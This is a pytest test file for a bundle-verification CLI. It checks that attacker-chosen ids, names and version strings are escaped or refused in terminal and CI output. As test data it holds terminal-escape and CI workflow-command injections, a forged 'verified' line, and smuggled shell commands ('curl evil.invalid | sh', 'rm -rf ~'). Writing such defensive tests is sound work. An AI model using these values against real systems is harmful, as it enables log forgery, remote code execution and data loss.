"""A bundle's maker (someone who signs with their own key: the victim runs `verify` without
--pubkey, or `analyze`) chooses every string in it: run ids, task ids, the scenario's name,
the build's version and report code, the image digest. What verify and analyze print of them
may not act on a terminal (escape sequences, OSC 8 links, a carriage return, a bidi override),
forge a line of its own ('OK ... verified') or be a workflow command to a CI runner
(`::add-mask::`, `::stop-commands::`); a version or report code that is none is refused;
the rerun hint is a command safe to paste or none; --json says what the text says."""

from __future__ import annotations

import dataclasses
import json
import re
from pathlib import Path

import pytest
from bundle_support import contents_for, record_for
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from copeca_action._util.hashing import sha256_json
from copeca_action._util.scrub import Scrubber
from copeca_action.bundle import BundleContents, write_bundle
from copeca_action.cli import main
from copeca_action.plan import RunPlan, run_id_for

EVIL = ("\n::add-mask::x\x1b[2J\x1b]8;;https://evil.invalid\x1b\\link\x1b]8;;\x1b\\"
        "\u202eabc\x9b31m\rOK b.copeca verified\n  ::stop-commands::tok")
"""Everything at once: line breaks before workflow commands (one indented: the runner
trims), a clear-screen, an OSC 8 link, a bidi override, an 8-bit CSI, a carriage return
that overwrites the line with a forged verdict."""
RAW = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_inert(text: str) -> None:
    """No character a terminal acts on but the line break, no line that is a workflow
    command but the CLI's own error annotation (in Actions), no line the bundle forged."""
    assert not RAW.search(text), repr(text)
    commands = [line for line in text.splitlines() if line.lstrip().startswith("::")]
    assert len(commands) <= 1 and all(c.startswith("::error::") for c in commands), commands
    assert not any(line.startswith("OK b.copeca") for line in text.splitlines())


def _signed(tmp_path: Path, contents: BundleContents, name: str = "b.copeca") -> Path:
    """Signed with the maker's own key: the signature holds, it is just not pinned."""
    path = tmp_path / name
    write_bundle(contents, path, Ed25519PrivateKey.generate(), Scrubber())
    return path


def test_a_hostile_run_id_in_a_failure_is_escaped_on_its_line(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str],  # type: ignore[no-untyped-def]
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The reported problem: a plan run the records lack is listed by its run id, and the
    id's line break put '::add-mask::x' on a line of its own in a CI log, its escapes
    cleared the screen; now the id shows escaped, on the listing's line."""
    runs = [*plan.runs, plan.runs[0].model_copy(update={"run_id": EVIL})]
    evil = plan.model_copy(update={"runs": runs, "plan_digest": sha256_json(
        sorted(r.run_id for r in runs))})
    records = [record_for(plan, i) for i in range(len(plan.runs))]
    path = _signed(tmp_path, contents_for(evil, demo[2], records=records))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")  # verify in a workflow's log
    for verb in ("verify", "analyze"):
        assert main([verb, str(path)]) == 14, verb
        captured = capsys.readouterr()
        assert_inert(captured.out + captured.err)
        assert "  \\x0a::add-mask::x\\x1b[2J\\x1b]8;;https://evil.invalid" in captured.err
        assert "\\u202eabc\\x9b31m\\x0dOK b.copeca verified\\x0a  ::stop-commands" in \
            captured.err
    assert main(["merge", str(path), "--bundle", str(tmp_path / "all.copeca"),
                 "--allow-unsigned"]) == 14
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert "\\x0a::add-mask::x\\x1b[2J" in captured.err


def test_a_hostile_scenario_name_in_a_passing_bundle_is_escaped(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    evil = plan.model_copy(update={"scenario": "demo" + EVIL})
    records = [record_for(evil, i) for i in range(len(plan.runs))]
    path = _signed(tmp_path, contents_for(evil, demo[2], records=records))
    assert main(["verify", str(path)]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert len(out.splitlines()) == 5  # OK, signature, runs, verdict, report: none forged
    assert "(demo\\x0a::add-mask::x\\x1b[2J" in out
    assert main(["verify", str(path), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["scenario"] == "demo" + EVIL  # JSON escapes it: the value, unchanged


def test_hostile_task_ids_in_analyze_are_inert(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    """A task id (and so its run ids) the maker chose, consistent with its records: the
    report analyze prints holds it on its table row, inert."""
    first = plan.runs[0].task_id

    def renamed(run):  # type: ignore[no-untyped-def]
        task = run.task_id + EVIL
        return run.model_copy(update={"task_id": task, "run_id": run_id_for(
            task, run.task_hash, run.arm, run.model, run.repetition)})

    runs = [renamed(r) if r.task_id == first else r for r in plan.runs]
    evil = plan.model_copy(update={"runs": runs, "plan_digest": sha256_json(
        sorted(r.run_id for r in runs))})
    path = _signed(tmp_path, contents_for(evil, demo[2]))
    assert main(["verify", str(path)]) == 0
    assert main(["analyze", str(path), "--format", "md"]) == 0
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)


@pytest.mark.parametrize(("field", "value", "expected"), [
    ("harness_version", "0.1.0\n(report code 450329a57d13, numpy 2.4.6)", "harness_version"),
    ("harness_version", "0.1.0 verify x; curl evil.invalid | sh #", "harness_version"),
    ("numpy_version", "2.4.6\x1b[2J", "numpy_version"),
    ("report_code", "zz\r::error::pwned", "report_code"),
    ("report_code", "A" * 64, "report_code"),  # hex, but not as the writer writes it
])
def test_a_build_id_that_is_no_version_or_digest_is_refused(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str],  # type: ignore[no-untyped-def]
        field: str, value: str, expected: str) -> None:
    """Before: verify passed such a bundle and printed 'made by copeca-action 0.1.0' with
    the rest of the version on a line of its own; now the statement is corrupt (exit 10),
    naming the field."""
    honest = contents_for(plan, demo[2])
    contents = dataclasses.replace(honest, environment=honest.environment.model_copy(
        update={field: value}))
    path = _signed(tmp_path, contents)
    assert main(["verify", str(path), "--json"]) == 10
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert f"statement.dsse.json payload: predicate.environment.{expected}: " in captured.err
    data = json.loads(captured.out)
    assert (data["ok"], data["exit_code"], data["kind"]) == (False, 10, "corrupt")
    assert data["error"] in captured.err


def _another_build(tmp_path: Path, plan: RunPlan, demo, version: str,  # type: ignore[no-untyped-def]
                   image: str | None) -> Path:
    """A bundle another build made, whose report this build recomputes otherwise (exit 16)."""
    honest = contents_for(plan, demo[2])
    assert honest.report is not None
    lie = dataclasses.replace(honest.report, summary=honest.report.summary.model_copy(
        update={"verdict": "improvement"}))
    environment = honest.environment.model_copy(update={
        "harness_version": version, "report_code": "0" * 64, "image_digest": image})
    folder = tmp_path / "it's here; rm -rf ~"
    folder.mkdir()
    return _signed(folder, dataclasses.replace(honest, environment=environment, report=lie))


def test_the_rerun_hint_is_a_command_safe_to_paste(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    path = _another_build(tmp_path, plan, demo, "0.0.9", "sha256:ab\n::add-mask::x\x1b[2J")
    assert main(["verify", str(path)]) == 16
    err = capsys.readouterr().err
    assert_inert(err)
    quoted = "'" + str(path).replace("'", "'\"'\"'") + "'"  # shlex's own quoting
    assert f"`pipx run copeca-action==0.0.9 verify {quoted} ...`" in err
    assert "or the image it ran in (sha256:ab\\x0a::add-mask::x\\x1b[2J)" in err
    (tmp_path / "local").mkdir()
    local = _another_build(tmp_path / "local", plan, demo, "0.1.0.dev3+g1a2b", None)
    assert main(["verify", str(local)]) == 16
    err = capsys.readouterr().err
    assert "pipx run" not in err  # a local build was never released: no command to paste
    assert "copeca-action 0.1.0.dev3+g1a2b is a local build (never released)" in err


def test_verify_json_says_what_the_text_says(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    """--json printed nothing on a failure (a program read an empty stdout), and on a pass
    left out the build and the simulated note the text prints."""
    records = [record_for(plan, i).model_copy(update={"endpoint": "scripted"})
               for i in range(len(plan.runs))]
    path = _signed(tmp_path, contents_for(plan, demo[2], records=records))
    assert main(["verify", str(path)]) == 0
    text = capsys.readouterr().out
    assert main(["verify", str(path), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["ok"], data["exit_code"], data["kind"], data["simulated"]) == (
        True, 0, None, True)
    assert f"SIMULATED: {data['simulation_note']}\n" in text
    assert f"report: {data['report_checked']}\n" in text
    assert data["keyid"] in text and data["pinned"] is False
    from copeca_action._util.build import Build

    this = Build.this()
    assert data["build"] == {"harness_version": this.version,
                             "report_code": this.report_code, "numpy_version": this.numpy}
    assert data["attempts"] == [] and data["attempts_checked"] == ""
    # a failure: the same exit code and message as the text, and JSON on stdout
    other = _another_build(tmp_path, plan, demo, "0.0.9", None)
    assert main(["verify", str(other), "--json"]) == 16
    captured = capsys.readouterr()
    failed = json.loads(captured.out)
    assert (failed["ok"], failed["exit_code"], failed["kind"]) == (False, 16, "build")
    assert captured.err == f"FAILED (build): {failed['error']}\n"
    # --require-signature's refusal too
    unsigned = tmp_path / "u.copeca"
    write_bundle(contents_for(plan, demo[2]), unsigned, None, Scrubber())
    assert main(["verify", str(unsigned), "--json", "--require-signature"]) == 13
    assert json.loads(capsys.readouterr().out)["kind"] == "unsigned"


def test_a_scenario_error_quoting_the_bundle_stays_on_its_line(
        tmp_path: Path, plan: RunPlan, demo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    """A scenario.yaml the report cannot be recomputed with: the loader's error quotes the
    key the maker wrote, line break and all; it stays on the FAILED line, escaped."""
    import hashlib

    from zipedit import read_all, resign

    from copeca_action.bundle._write import pretty_json

    maker = Ed25519PrivateKey.generate()
    good = tmp_path / "good.copeca"
    write_bundle(contents_for(plan, demo[2]), good, maker, Scrubber())
    scenario = demo[2].read_bytes() + b'"\\nOK b.copeca verified\\x1b[2J": 1\n'
    statement = json.loads(read_all(good)["statement.json"])
    statement["predicate"]["scenario_sha256"] = hashlib.sha256(scenario).hexdigest()
    path = resign(good, tmp_path / "b.copeca", {
        "scenario.yaml": scenario, "statement.json": pretty_json(statement)}, maker)
    assert main(["verify", str(path)]) == 15
    err = capsys.readouterr().err
    assert_inert(err)
    assert len(err.splitlines()) == 1
    assert "the records with it: scenario.yaml:" in err
    assert ": \\x0aOK b.copeca verified\\x1b[2J: unknown key" in err
